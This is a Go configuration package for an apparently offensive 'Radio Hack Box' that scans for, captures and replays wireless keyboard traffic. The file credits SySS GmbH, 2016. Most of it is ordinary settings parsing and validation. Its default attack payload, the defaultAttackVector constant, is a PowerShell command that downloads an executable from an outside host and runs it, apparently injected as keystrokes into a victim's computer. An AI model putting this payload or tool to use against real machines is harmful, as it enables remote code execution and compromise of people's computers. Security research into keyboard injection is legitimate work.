// Package config holds the tunables of the radio hack box. All values have
// compiled in defaults; a TOML file may override them for bench setups.
package config

import (
	"errors"
	"fmt"
	"os"
	"time"

	"github.com/BurntSushi/toml"
	"github.com/mame82/radiohackbox/radio"
)

// Duration wraps time.Duration so TOML files can use "100ms" style strings.
type Duration struct {
	time.Duration
}

func (d *Duration) UnmarshalText(text []byte) error {
	v, err := time.ParseDuration(string(text))
	if err != nil {
		return err
	}
	d.Duration = v
	return nil
}

func (d Duration) MarshalText() ([]byte, error) {
	return []byte(d.Duration.String()), nil
}

type Config struct {
	Radio    RadioConfig    `toml:"radio"`
	Scan     ScanConfig     `toml:"scan"`
	Capture  CaptureConfig  `toml:"capture"`
	Attack   AttackConfig   `toml:"attack"`
	UI       UIConfig       `toml:"ui"`
	Shutdown ShutdownConfig `toml:"shutdown"`
}

type RadioConfig struct {
	// firmware TX parameters
	RetransmitDelay byte `toml:"retransmit_delay"`
	RetransmitCount byte `toml:"retransmit_count"`
	EnableLNA       bool `toml:"enable_lna"`
}

type ScanConfig struct {
	// Channels is the sweep order (was 6 for all tested Cherry keyboards)
	Channels []radio.Channel `toml:"channels"`
	Dwell    Duration        `toml:"dwell"`
	// Prefix for promiscuous mode, empty means any address
	Prefix []byte `toml:"prefix"`
	// AddressRange is checked against the first (stored order) address byte
	AddressRange radio.ByteRange `toml:"address_range"`
	// Target, if set, is a known keyboard (sniffer tool order). The box
	// starts capturing it instead of scanning.
	Target radio.Addr `toml:"target"`
}

type CaptureConfig struct {
	MinFrames     int      `toml:"min_frames"`
	QuietInterval Duration `toml:"quiet_interval"`
}

type AttackConfig struct {
	Payload     string   `toml:"payload"`
	SettleDelay Duration `toml:"settle_delay"`
}

type UIConfig struct {
	AppName string `toml:"app_name"`
	Banner  string `toml:"banner"`
	// composite gesture: SCAN followed by RECORD within this window
	GestureWindow Duration `toml:"gesture_window"`
	// how long "Got crypto key!" stays visible
	CaptureHold Duration `toml:"capture_hold"`
	// delay for the display after replay / attack / before shutdown
	ModeHold   Duration `toml:"mode_hold"`
	BlinkCount int      `toml:"blink_count"`
	BlinkDelay Duration `toml:"blink_delay"`
}

type ShutdownConfig struct {
	Command []string `toml:"command"`
}

const defaultAttackVector = `powershell (new-object System.Net.WebClient).DownloadFile('http://ptmd.sy.gs/syss.exe', '%TEMP%\syss.exe'); Start-Process '%TEMP%\syss.exe'`

func Default() *Config {
	return &Config{
		Radio: RadioConfig{
			RetransmitDelay: 4,
			RetransmitCount: 15,
			EnableLNA:       true,
		},
		Scan: ScanConfig{
			Channels:     []radio.Channel{6},
			Dwell:        Duration{100 * time.Millisecond},
			Prefix:       []byte{},
			AddressRange: radio.ByteRange{Low: 0x31, High: 0x3f},
		},
		Capture: CaptureConfig{
			MinFrames:     4,
			QuietInterval: Duration{2 * time.Second},
		},
		Attack: AttackConfig{
			Payload:     defaultAttackVector,
			SettleDelay: Duration{100 * time.Millisecond},
		},
		UI: UIConfig{
			AppName:       "Radio Hack Box",
			Banner:        "SySS GmbH - 2016",
			GestureWindow: Duration{time.Second},
			CaptureHold:   Duration{3 * time.Second},
			ModeHold:      Duration{500 * time.Millisecond},
			BlinkCount:    10,
			BlinkDelay:    Duration{100 * time.Millisecond},
		},
		Shutdown: ShutdownConfig{
			Command: []string{"/usr/bin/sudo", "/sbin/shutdown", "-h", "now"},
		},
	}
}

// Load reads path on top of the defaults. An empty path returns the defaults.
func Load(path string) (*Config, error) {
	cfg := Default()
	if path == "" {
		return cfg, nil
	}

	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("read config: %w", err)
	}
	if err := Decode(data, cfg); err != nil {
		return nil, err
	}
	return cfg, nil
}

// Decode overlays TOML data onto cfg and validates the result.
func Decode(data []byte, cfg *Config) error {
	md, err := toml.Decode(string(data), cfg)
	if err != nil {
		return fmt.Errorf("parse config: %w", err)
	}
	if undecoded := md.Undecoded(); len(undecoded) > 0 {
		return fmt.Errorf("unknown config key %q", undecoded[0].String())
	}
	if err := cfg.Validate(); err != nil {
		return fmt.Errorf("validation failed: %w", err)
	}
	return nil
}

func (c *Config) Validate() error {
	var errs []error

	if len(c.Scan.Channels) == 0 {
		errs = append(errs, errors.New("scan.channels must not be empty"))
	}
	for _, ch := range c.Scan.Channels {
		if !ch.Valid() {
			errs = append(errs, fmt.Errorf("scan.channels: channel %d above %d", ch, radio.MaxChannel))
		}
	}
	if len(c.Scan.Prefix) > radio.AddrLen {
		errs = append(errs, fmt.Errorf("scan.prefix longer than %d bytes", radio.AddrLen))
	}
	if c.Scan.AddressRange.Empty() {
		errs = append(errs, errors.New("scan.address_range is empty"))
	}
	if c.Capture.MinFrames < 1 {
		errs = append(errs, errors.New("capture.min_frames must be at least 1"))
	}
	if c.Attack.Payload == "" {
		errs = append(errs, errors.New("attack.payload must not be empty"))
	}
	if len(c.Shutdown.Command) == 0 {
		errs = append(errs, errors.New("shutdown.command must not be empty"))
	}

	for name, d := range map[string]Duration{
		"scan.dwell":             c.Scan.Dwell,
		"capture.quiet_interval": c.Capture.QuietInterval,
		"attack.settle_delay":    c.Attack.SettleDelay,
		"ui.gesture_window":      c.UI.GestureWindow,
		"ui.capture_hold":        c.UI.CaptureHold,
		"ui.mode_hold":           c.UI.ModeHold,
		"ui.blink_delay":         c.UI.BlinkDelay,
	} {
		if d.Duration <= 0 {
			errs = append(errs, fmt.Errorf("%s must be positive", name))
		}
	}

	return errors.Join(errs...)
}
